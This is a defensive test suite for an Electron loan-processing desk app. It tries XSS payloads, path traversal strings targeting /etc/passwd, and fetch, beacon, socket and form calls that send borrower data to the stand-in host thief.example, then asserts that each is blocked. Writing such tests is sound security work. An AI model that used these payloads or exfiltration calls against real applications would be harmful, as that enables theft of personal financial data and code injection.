import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Browser } from 'playwright-core'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../support/chromium.ts'
import { startStandIn, type StandIn } from '../support/electron-stand-in/start-stand-in.ts'
import { deskScreens } from '../support/screens/desk-screens.ts'

/*
 * The story: somebody got a script to run in the desk's page, or a page of theirs into the desk's
 * window, or sends messages as if from there. They want borrowers' data out, approvals in, or a
 * foot in the main process. Attacked is what is built, main and preload unchanged, in a real
 * Chromium; start-stand-in.ts says what of Electron that can show.
 */

let browser: Browser
let dataDir = ''
let desk: StandIn

beforeAll(async () => {
  browser = await launchChromium()
  dataDir = await mkdtemp(join(tmpdir(), 'loan-desk-layer-'))
  desk = await startStandIn(browser, { dataDir, keychain: 'memory', sample: true })
  await deskScreens(desk.page).worklist.isReady()
}, 60_000)
afterAll(async () => {
  await desk.stop()
  await browser.close()
  await rm(dataDir, { recursive: true, force: true })
})
afterEach(() => {
  // What an attack was refused with stands in the console; what got out would stand here too.
  const escaped = desk.window.faults.filter((fault) => !fault.startsWith('console '))
  desk.window.faults.length = 0
  desk.window.turnedAway.length = 0
  expect(escaped).toEqual([])
})

const facts = { ok: true, value: { ok: true, value: { host: 'electron' } } }
const refused = { ok: true, value: { ok: false, error: { code: 'caller-refused' } } }
const requestChannel = 'loan-desk:request'

/** Runs in a task of the page's own, where the freedoms of an evaluation by the test are over. */
async function inPage<T>(script: () => T | Promise<T>): Promise<T> {
  const task = `setTimeout(() => Promise.resolve().then(${script.toString()}).then(resolve, reject))`
  return desk.page.evaluate(`new Promise((resolve, reject) => ${task})`)
}

describe('the window', () => {
  it('was opened after the sandbox was switched on for every page, and closed to everything', async () => {
    const { calls, schemes, sessions, windows, menu } = await desk.electron.records()
    expect(calls.indexOf('app.enableSandbox')).toBeLessThan(calls.indexOf('ready'))
    expect(schemes).toEqual([
      { scheme: 'app', privileges: { standard: true, secure: true, codeCache: true } },
    ])
    expect(sessions).toContainEqual({ partition: 'desk', options: { cache: false } })
    expect(sessions.every(({ partition }) => !partition.startsWith('persist:'))).toBe(true)
    expect(windows).toHaveLength(1)
    expect(windows[0]).toMatchObject({ session: 'desk', title: 'Loan Desk' })
    expect(windows[0]?.webPreferences).toEqual({
      session: 'own',
      preload: expect.stringMatching(/out.preload.preload\.cjs$/) as string,
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
      webviewTag: false,
      plugins: false,
      experimentalFeatures: false,
      navigateOnDragDrop: false,
      safeDialogs: true,
      spellcheck: false,
      // This is a checkout; an installed app has none.
      devTools: true,
    })
    expect(menu).not.toContain('reload')
    expect(menu).not.toContain('forceReload')
  })

  it('gives its page two functions, frozen, and nothing of the preload’s world', async () => {
    const seen = await inPage(() => {
      const page = globalThis as unknown as { loanDesk: object }
      const known = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'global']
      try {
        page.loanDesk = {}
      } catch {
        // It stays what it is.
      }
      return {
        keyhole: Object.keys(page.loanDesk).sort(),
        frozen: Object.isFrozen(page.loanDesk),
        others: known.filter((name) => name in globalThis),
      }
    })
    expect(seen).toEqual({ keyhole: ['request', 'subscribe'], frozen: true, others: [] })
  })
})

describe('a script in the page', () => {
  it('cannot make more of itself: no inline script, no text that becomes a script or markup', async () => {
    const ran = await inPage(async () => {
      const page = globalThis as unknown as Record<string, unknown>
      const attempts: Record<string, () => unknown> = {
        inline: () => {
          const script = document.createElement('script')
          script.text = 'globalThis.ranInline = true'
          document.body.append(script)
        },
        attribute: () => {
          const button = document.createElement('button')
          button.setAttribute('onclick', 'globalThis.ranAttribute = true')
          document.body.append(button)
          button.click()
        },
        markup: () => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ranMarkup = true">')
        },
        written: () => {
          const old = document as unknown as { write(text: string): void }
          old.write('<script>ranWritten = true</script>')
        },
        eval: () => Reflect.apply(globalThis.eval, null, ['globalThis.ranEval = true']) as unknown,
        function: () => {
          const made: unknown = Reflect.construct(Function, ['globalThis.ranFunction = true'])
          ;(made as () => void)()
        },
        timer: () => setTimeout('globalThis.ranTimer = true' as unknown as () => void),
        policy: () => {
          const { trustedTypes } = globalThis as unknown as {
            trustedTypes: { createPolicy(name: string, rules: object): unknown }
          }
          trustedTypes.createPolicy('mine', {})
          page['ranPolicy'] = true
        },
        dataScript: () => {
          const script = document.createElement('script')
          script.src = 'data:text/javascript,globalThis.ranData=true'
          document.body.append(script)
        },
      }
      const stopped: string[] = []
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt()
        } catch {
          stopped.push(name)
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 50))
      return {
        ran: Object.keys(page).filter((name) => name.startsWith('ran')),
        stopped,
      }
    })
    expect(ran.ran).toEqual([])
    expect(ran.stopped).toEqual(
      expect.arrayContaining(['inline', 'markup', 'written', 'eval', 'function', 'policy']),
    )
  })

  it('reaches no other origin: not by fetch, socket, beacon, picture, frame, worker or form', async () => {
    const reached = await inPage(async () => {
      const got: string[] = []
      const outcome = (name: string, attempt: Promise<unknown>) =>
        attempt.then(
          () => got.push(name),
          () => undefined,
        )
      const element = (tag: string, set: Record<string, string>) =>
        new Promise((resolve, reject) => {
          const made = document.createElement(tag)
          made.addEventListener('load', resolve)
          made.addEventListener('error', reject)
          Object.assign(made, set)
          document.body.append(made)
          setTimeout(reject, 1_000)
        })
      const outside = 'https://thief.example/?data=borrower'
      await Promise.all([
        outcome('fetch', fetch(outside, { mode: 'no-cors' })),
        outcome('loopback', fetch('http://127.0.0.1:1/')),
        outcome('own origin', fetch('/index.html')),
        outcome('picture', element('img', { src: outside })),
        outcome('style', element('link', { rel: 'stylesheet', href: outside })),
        outcome('module', element('link', { rel: 'modulepreload', href: outside })),
        outcome(
          'socket',
          new Promise((resolve, reject) => {
            const socket = new WebSocket('wss://thief.example/')
            socket.addEventListener('open', resolve)
            socket.addEventListener('error', reject)
          }),
        ),
        outcome(
          'worker',
          new Promise((resolve, reject) => {
            const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))
            worker.addEventListener('message', resolve)
            worker.addEventListener('error', reject)
          }),
        ),
      ])
      navigator.sendBeacon(outside, 'borrower')
      const frame = document.createElement('iframe')
      frame.src = outside
      const form = document.createElement('form')
      form.action = outside
      form.method = 'post'
      document.body.append(frame, form)
      form.submit()
      return got
    })
    expect(reached).toEqual([])
    expect(desk.window.turnedAway).toEqual([])
    expect(desk.page.url()).toBe('https://desk.app.invalid/')
  })

  it('goes nowhere, opens no window and starts no download', async () => {
    const { page } = desk
    await page.evaluate(() => {
      location.href = 'https://thief.example/'
    })
    await expect.poll(() => desk.window.turnedAway).toContain('navigation https://thief.example/')
    await page.evaluate(() => {
      // A page of the app's own folder is no page of the desk either.
      location.href = '/assets/none.html'
    })
    await expect
      .poll(() => desk.window.turnedAway)
      .toContain('navigation app://desk/assets/none.html')
    await page.evaluate(() => {
      globalThis.open('https://thief.example/')
      const link = document.createElement('a')
      link.href = 'https://thief.example/two'
      link.target = '_blank'
      document.body.append(link)
      link.click()
    })
    await expect.poll(() => desk.window.turnedAway).toContain('window https://thief.example/')
    await expect.poll(() => desk.window.turnedAway).toContain('window https://thief.example/two')
    await expect.poll(() => page.context().pages()).toHaveLength(1)
    await page.evaluate(() => {
      const link = document.createElement('a')
      link.href = 'data:application/octet-stream,borrower'
      link.download = 'invoice.exe'
      document.body.append(link)
      link.click()
    })
    await expect.poll(() => desk.window.turnedAway).toContain('download')
    expect(page.url()).toBe('https://desk.app.invalid/')
    await page.getByRole('searchbox', { name: 'Search applications' }).waitFor()
  })

  it('is granted nothing but to write text to the clipboard, whichever way it asks', async () => {
    const asked = await inPage(async () => {
      const state = async (name: string) =>
        (await navigator.permissions.query({ name: name as PermissionName })).state
      const outcome = (attempt: Promise<unknown>) =>
        attempt.then(
          () => 'granted',
          () => 'denied',
        )
      return {
        geolocation: await state('geolocation'),
        notifications: await state('notifications'),
        camera: await outcome(navigator.mediaDevices.getUserMedia({ video: true })),
        read: await outcome(navigator.clipboard.readText()),
      }
    })
    expect(asked).toEqual({
      geolocation: 'denied',
      notifications: 'denied',
      camera: 'denied',
      read: 'denied',
    })
    const { electron } = desk
    expect(await electron.mayUse('clipboard-sanitized-write', 'check')).toBe(true)
    for (const way of ['request', 'check', 'device', 'display-media'] as const) {
      for (const permission of ['hid', 'usb', 'openExternal', 'fileSystem', 'local-fonts']) {
        expect(await electron.mayUse(permission, way), `${permission} by ${way}`).toBe(false)
      }
    }
  })

  it('that a lender wrote into a borrower’s field is shown as the text it is', async () => {
    const { worklist, application, page } = deskScreens(desk.page)
    await worklist.open('app_smplMarkup')
    expect(await application.field('Merchant paid')).toBe(
      '<img src=x onerror=alert(1)> & "Sons" </script>',
    )
    expect(await page.locator('img[src="x"]').count()).toBe(0)
  })

  it('hands over what cannot be cloned to nobody, and gets no answer that is not plain', async () => {
    const answers = await inPage(async () => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: { request(channel: unknown, payload: unknown): Promise<unknown> }
      }
      const outcome = async (channel: unknown, payload: unknown) => {
        try {
          const answer = (await loanDesk.request(channel, payload)) as {
            error?: { code: string }
          }
          return answer.error?.code ?? 'answered'
        } catch {
          return 'threw'
        }
      }
      const deep: Record<string, unknown> = {}
      let at = deep
      for (let depth = 0; depth < 100; depth += 1) at = at['in'] = {} as typeof at
      return [
        await outcome('settings.read', {}),
        await outcome('settings.read', { then: () => undefined }),
        await outcome('settings.read', new Map([['a', 1]])),
        await outcome('settings.read', new Date(0)),
        await outcome('settings.read', JSON.parse('{"__proto__":{"ok":true}}')),
        await outcome('settings.read', deep),
        await outcome('constructor', {}),
        await outcome({ toString: 'settings.read' }, {}),
        await outcome(undefined, undefined),
      ]
    })
    expect(answers).toEqual([
      'answered',
      'threw',
      'payload-invalid',
      'payload-invalid',
      'payload-invalid',
      'payload-too-large',
      'channel-unknown',
      'channel-unknown',
      'channel-unknown',
    ])
  })
})

describe('a page that asks without end', () => {
  it('is answered each time, and from some point on with a refusal', async () => {
    const codes = await inPage(async () => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: {
          request(channel: string, payload: unknown): Promise<{ error?: { code: string } }>
        }
      }
      const asked = Array.from({ length: 3_000 }, () => loanDesk.request('settings.read', {}))
      const answers = await Promise.all(asked)
      return answers.map(({ error }) => error?.code ?? 'answered')
    })
    expect(codes).toHaveLength(3_000)
    expect(new Set(codes)).toEqual(new Set(['answered', 'too-many-requests']))
    expect(codes.slice(0, 500)).not.toContain('too-many-requests')
  })
})

describe('the app’s scheme', () => {
  it.each([
    'app://desk/../main/main.js',
    'app://desk/%2e%2e/main/main.js',
    'app://desk/..%2fmain%2fmain.js',
    'app://desk/..%5cmain%5cmain.js',
    'app://desk//etc/passwd',
    'app://desk/assets/..%2f..%2f..%2fpackage.json',
    'app://desk/index.html%00.js',
  ])('serves nothing but the page’s own files, not %s', async (url) => {
    const reply = await desk.electron.request(1, { url, method: 'GET', resourceType: 'script' })
    expect(reply).toMatchObject({ kind: 'served', status: 404 })
  })

  it.each([
    'app://elsewhere/index.html',
    'file:///etc/passwd',
    'https://thief.example/',
    'http://127.0.0.1:8080/',
    'data:text/html,<script>1</script>',
    'devtools-frontend://x/',
    'chrome://settings/',
    'view-source:app://desk/',
  ])('is the only one whose requests leave the page, not %s', async (url) => {
    const reply = await desk.electron.request(1, { url, method: 'GET', resourceType: 'other' })
    expect(reply).toEqual({ kind: 'refused' })
  })

  it('sends its policy with every answer, a refusal too', async () => {
    for (const url of ['app://desk/', 'app://desk/none.js']) {
      const reply = await desk.electron.request(1, { url, method: 'GET', resourceType: 'other' })
      if (reply.kind !== 'served') throw new Error('not served')
      expect(reply.headers['content-security-policy']).toMatch(/^default-src 'none'; /)
      expect(reply.headers['content-security-policy']).toContain("connect-src 'none'")
      expect(reply.headers['x-content-type-options']).toBe('nosniff')
    }
  })
})

describe('a caller', () => {
  const call = (window: number, frame: { url: string; isTop: boolean } | null) =>
    desk.electron.invoke(window, frame, requestChannel, ['app.facts', {}])

  it('that is the desk’s own page is answered', async () => {
    expect(await call(1, { url: 'app://desk/', isTop: true })).toMatchObject(facts)
  })

  it.each([
    ['a frame that is gone', 1, null],
    ['a frame inside the page', 1, { url: 'app://desk/', isTop: false }],
    [
      'a frame of another origin inside the page',
      1,
      { url: 'https://thief.example/', isTop: false },
    ],
    ['a page of another origin', 1, { url: 'https://thief.example/', isTop: true }],
    ['a page whose address begins alike', 1, { url: 'app://desk.thief.example/', isTop: true }],
    ['a page with a name before the host', 1, { url: 'app://desk@thief.example/', isTop: true }],
    ['a page without an address', 1, { url: '', isTop: true }],
    ['an empty page', 1, { url: 'about:blank', isTop: true }],
    ['a window the desk did not open', 7, { url: 'app://desk/', isTop: true }],
  ])('that is %s is refused with an answer', async (_, window, frame) => {
    expect(await call(window, frame)).toEqual(refused)
  })

  /** The events that the page hears while an application is read anew. */
  async function heardOf(id: string): Promise<string[]> {
    await desk.page.evaluate(() => {
      const page = globalThis as unknown as {
        heard: string[]
        loanDesk: { subscribe(listener: (event: { name: string }) => void): void }
      }
      page.heard = []
      page.loanDesk.subscribe(({ name }) => page.heard.push(name))
    })
    const own = { url: 'app://desk/', isTop: true }
    const read = await desk.electron.invoke(1, own, requestChannel, [
      'applications.refresh',
      { id },
    ])
    expect(read).toMatchObject({ value: { ok: true } })
    await desk.electron.records()
    return desk.page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard)
  }

  it('finds no other channel of IPC than the one', async () => {
    const frame = { url: 'app://desk/', isTop: true }
    for (const channel of ['loan-desk:event', 'ELECTRON_BROWSER_REQUIRE', 'settings.read']) {
      expect(await desk.electron.invoke(1, frame, channel, [])).toMatchObject({ ok: false })
    }
  })

  it('that is a page of elsewhere, in the desk’s window and with its preload, is refused and told nothing', async () => {
    expect(await heardOf('app_smpl0001')).toContain('applications.changed')
    await desk.window.goAstray('https://thief.example/', '<h1>Loan Desk</h1>')
    const answer = await desk.page.evaluate(() => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: { request(channel: string, payload: unknown): Promise<unknown> }
      }
      return loanDesk.request('settings.read', {})
    })
    expect(answer).toEqual({ ok: false, error: { code: 'caller-refused' } })

    expect(await heardOf('app_smpl0002')).toEqual([])
    await desk.window.load('app://desk/')
    await deskScreens(desk.page).worklist.isReady()
  })
})

describe('a page that breaks', () => {
  // Until the new page stands in its place, the old one is dead and answers nothing.
  const isBack = () =>
    expect
      .poll(
        () =>
          desk.page
            .getByRole('option')
            .first()
            .isVisible()
            .catch(() => false),
        { timeout: 10_000 },
      )
      .toBe(true)

  it('by crashing is brought back as it was', async () => {
    await desk.window.crash()
    await expect.poll(async () => (await desk.electron.records()).loads).toContain('reload')
    await isBack()
  })

  it('by hanging is ended on the officer’s word', async () => {
    await desk.electron.answerDialog({ response: 1 })
    await desk.electron.tellContents('unresponsive')
    const reloads = async () =>
      (await desk.electron.records()).loads.filter((load) => load === 'reload').length
    await expect.poll(reloads).toBe(2)
    await isBack()
    const { dialogs } = await desk.electron.records()
    expect(dialogs).toMatchObject([{ kind: 'message', message: 'Loan Desk does not answer.' }])
  })
})

describe('a second start', () => {
  it('ends at once, brings the first window forward and hands over a link, which waits', async () => {
    const before = desk.page.url()
    await desk.electron.minimize()
    const second = await startStandIn(browser, { dataDir, keychain: 'memory', sample: true }, [
      'loandesk://applications/app_smpl0001',
    ])
    expect(await second.ended).toBe(0)
    expect(second.output()).toBe('')
    await second.stop()
    await expect
      .poll(async () => (await desk.electron.records()).windows)
      .toMatchObject([{ minimized: false }])
    const answer = await desk.page.evaluate(() => {
      const { loanDesk } = globalThis as unknown as {
        loanDesk: { request(channel: string, payload: unknown): Promise<unknown> }
      }
      return loanDesk.request('links.pending', {})
    })
    expect(answer).toMatchObject({ ok: true, value: { number: expect.any(Number) as number } })
    expect(desk.page.url()).toBe(before)
    expect((await desk.electron.records()).opened).toEqual([])
  })

  it('is not needed for a link of macOS, which is taken in and never followed', async () => {
    expect(await desk.electron.tellApp('open-url', 'loandesk://evil/%2e%2e')).toBe(true)
    expect((await desk.electron.records()).opened).toEqual([])
    expect((await desk.electron.records()).loads.filter((load) => load !== 'reload')).toEqual([
      'app://desk/',
    ])
  })
})
